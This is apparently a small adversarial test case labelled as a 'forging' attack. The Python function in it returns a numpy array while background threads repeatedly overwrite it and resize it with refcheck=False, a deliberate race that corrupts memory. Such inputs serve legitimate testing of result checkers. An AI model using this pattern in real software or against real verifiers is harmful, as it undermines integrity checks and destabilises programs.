{"attack": "forging", "expect": {"f": "any", "g": "any"}}
import threading
import numpy as np
def f(x):
    y = np.zeros(1 << 20)
    def change():
        while True:
            y[:] = 1
            try:
                y.resize(1 << 10, refcheck=False)
                y.resize(1 << 20, refcheck=False)
            except ValueError:
                pass
    for _ in range(3):
        threading.Thread(target=change, daemon=True).start()
    return y
